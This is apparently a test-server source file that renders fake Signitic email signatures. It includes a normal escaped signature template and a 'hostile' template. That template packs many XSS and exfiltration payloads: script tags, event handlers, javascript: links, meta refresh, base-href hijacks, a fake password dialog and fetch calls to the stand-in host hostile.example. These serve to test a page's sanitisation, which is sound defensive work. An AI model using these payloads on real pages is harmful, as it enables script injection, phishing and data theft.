// Signatures as the fake Signitic renders them: a usual one from a person's fields, others that a test asks for by name.
import type { SigniticUser, Template } from './store';

/** The HTML of a person's signature, in the `<body>` that Signitic's page shows around it; null: no template. */
export function signatureOf(user: SigniticUser, template: Template | undefined): string | null {
  if (template === 'none') return null;
  if (template === 'empty') return '';
  if (template === 'image')
    return `<body><a href="https://example.com/">${picture(BANNER, 600, 140, 'Acme')}</a></body>`;
  if (template === 'hostile') return hostile(user);
  return template ? template.html : usual(user);
}

/** Texts are shown as texts; the line breaks of an address and a closing line are Signitic's own `<br/>`. */
function shown(value: SigniticUser[string]): string {
  const text = typeof value === 'string' ? value : '';
  const safe = text.replace(/[&<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`);
  return safe.replace(/&#60;br\s*\/?&#62;/gi, '<br/>');
}

function usual(user: SigniticUser): string {
  const name = [shown(user['firstname']), shown(user['lastname'])].filter(Boolean).join(' ');
  const role = [shown(user['jobtitle']), shown(user['department'])].filter(Boolean).join(' · ');
  const place = [shown(user['postal_code']), shown(user['city'])].filter(Boolean).join(' ');
  const company = shown(user.path?.parent_entity) || 'Acme';
  const lines = [
    name && `<strong style="font-size:18px;color:#0b3d91;">${name}</strong>`,
    role && `<span style="color:#5b6472;">${role}</span>`,
    phone('T', shown(user['phone'])),
    phone('M', shown(user['mobile'])),
    `<a href="mailto:${shown(user.email)}" style="color:#0b3d91;text-decoration:none;">${shown(user.email)}</a>`,
    shown(user['address']),
    place,
    links(user),
  ].filter(Boolean);
  const cells = lines.map((line) => `<tr><td style="padding:2px 0;">${line}</td></tr>`).join('');
  const portrait = shown(user['picture']);
  const logo = picture(portrait || LOGO, 96, 96, portrait ? name : company, 'border-radius:48px;display:block;');
  const formula = shown(user['formula']);
  return `<body>${formula && `<p style="${FONT}margin:0 0 12px;">${formula}</p>`}
<table cellpadding="0" cellspacing="0" border="0" role="presentation" style="${FONT}width:600px;border-collapse:collapse;">
<tr><td valign="top" style="padding:4px 20px 4px 0;width:96px;">${logo}</td>
<td valign="top" style="border-left:3px solid #f5a623;padding-left:20px;">
<table cellpadding="0" cellspacing="0" border="0" role="presentation" style="${FONT}">${cells}</table></td></tr>
<tr><td colspan="2" style="padding:14px 0 8px;">
<a href="https://example.com/">${picture(BANNER, 600, 140, `${company}: meet us at the fair`, 'display:block;')}</a></td></tr>
<tr><td colspan="2" style="font-size:10px;line-height:14px;color:#8a929e;">This message may hold confidential matter. If you are not its
reader, please delete it.</td></tr></table></body>`;
}

const FONT = 'font-family:Arial,Helvetica,sans-serif;font-size:13px;line-height:18px;color:#1f2733;';

function phone(letter: string, number: string): string {
  return number && `<span style="color:#f5a623;font-weight:bold;">${letter}</span>&nbsp; ${number}`;
}

function links(user: SigniticUser): string {
  return Object.keys(user)
    .filter((field) => field.endsWith('_link') && user[field])
    .map((field) => {
      const url = shown(user[field]);
      const href = /^[a-z]+:/i.test(url) ? url : `https://${url}`;
      return `<a href="${href}" style="color:#5b6472;font-size:12px;">${field.replace('_link', '')}</a>`;
    })
    .join(' &nbsp; ');
}

function picture(src: string, width: number, height: number, alt: string, style = ''): string {
  return `<img src="${src}" width="${width}" height="${height}" alt="${alt}" border="0" style="${style}">`;
}

const svg = (text: string): string => `data:image/svg+xml,${encodeURIComponent(text)}`;
const LOGO = svg(
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 96 96"><rect width="96" height="96" fill="#0b3d91"/><path d="M48 18 76 78H62L48 46 34 78H20Z" fill="#f5a623"/></svg>',
);
const BANNER = svg(
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 600 140"><rect width="600" height="140" rx="8" fill="#0b3d91"/><circle cx="520" cy="70" r="90" fill="#f5a623" opacity=".85"/><text x="32" y="66" font-family="Arial" font-size="26" font-weight="bold" fill="#fff">Meet us at the fair</text><text x="32" y="98" font-family="Arial" font-size="16" fill="#dbe4f5">12 to 14 May, hall 4, stand B 27</text></svg>',
);

/** Where the hostile signature would send what it finds. A page that shows it may ask this host for images, and for nothing else. */
export const HOSTILE_HOST = 'https://hostile.example';
/** The images of the hostile signature: the only requests that it may cause. */
export const HOSTILE_IMAGES = ['logo.png', 'open.gif?user=1'].map((name) => `${HOSTILE_HOST}/${name}`);

/** Every attempt sets `stolen` on a window, asks the host, opens a dialog, or leaves the page. */
function hostile(user: SigniticUser): string {
  const at = HOSTILE_HOST;
  const steal = `(parent.stolen=top.stolen=window.stolen=1,alert('stolen'),fetch('${at}/fetched'))`;
  return `<!DOCTYPE html><html><head><title>Signature</title>
<base href="${at}/base/" target="_top">
<BASE
 HREF='${at}/second/'>
<meta http-equiv="refresh" content="0; url=${at}/refreshed">
<META HTTP-EQUIV=Refresh CONTENT="0;${at}/refreshed-again">
<meta/http-equiv="Content-Security-Policy"/content="default-src * 'unsafe-inline'">
<link rel="stylesheet" href="${at}/style.css"><link rel="prefetch" href="${at}/prefetched"><link rel="dns-prefetch" href="//hostile.example">
<style>@import url("${at}/imported.css"); @font-face{font-family:x;src:url(${at}/font.woff)} body{font-family:x;width:expression(${steal});behavior:url(${at}/b.htc)}</style>
<script>${steal}</script><script src="${at}/script.js"></script></head>
<body onload="${steal}" onpageshow="${steal}">
<!-- --!><script>${steal}</script> --><noscript><p title="</noscript><img src=x onerror=${steal}>"></noscript>
<table style="font-family:Arial;"><tr><td><strong>${shown(user['firstname'])} ${shown(user['lastname'])}</strong><br/>${shown(user.email)}</td>
<td><img src="${HOSTILE_IMAGES[0]}" width="60" height="60" alt="Logo" onload="${steal}" onerror="${steal}"></td></tr></table>
<a id="hostile-link" href="javascript:${steal}">Call me</a> <a href="${at}/followed" target="_top" ping="${at}/ping">Website</a>
<a href="${at}/opened" target="_blank">New window</a> <a href="data:text/html,<script>${steal}</script>">Data</a>
<iframe src="${at}/framed"></iframe><iframe srcdoc="<script>${steal}</script>"></iframe><frameset><frame src="${at}/frame"></frameset>
<object data="${at}/object"></object><embed src="${at}/embedded"><applet code="x" codebase="${at}/"></applet>
<form action="${at}/posted" method="post" target="_top"><input name="key" autofocus onfocus="${steal}"><button id="hostile-button">Send</button></form>
<svg onload="${steal}"><script>${steal}</script><use href="${at}/use.svg#a"/><animate onbegin="${steal}" attributeName="x" dur="1s"/></svg>
<math href="javascript:${steal}"><mtext>m</mtext></math>
<video autoplay src="${at}/video.mp4" poster="${at}/video.mp4" onerror="${steal}"></video><audio autoplay src="${at}/audio.mp3"></audio>
<details open ontoggle="${steal}"><summary>More</summary></details><marquee onstart="${steal}">m</marquee>
<dialog open style="position:fixed;inset:0">Enter your password</dialog>
<img src="javascript:${steal}"><img src=x onerror="${steal}">
</textarea></title></style></script></iframe></noscript></template>
<img src="${HOSTILE_IMAGES[1]}" width="1" height="1" alt="">
<plaintext></body></html>`;
}
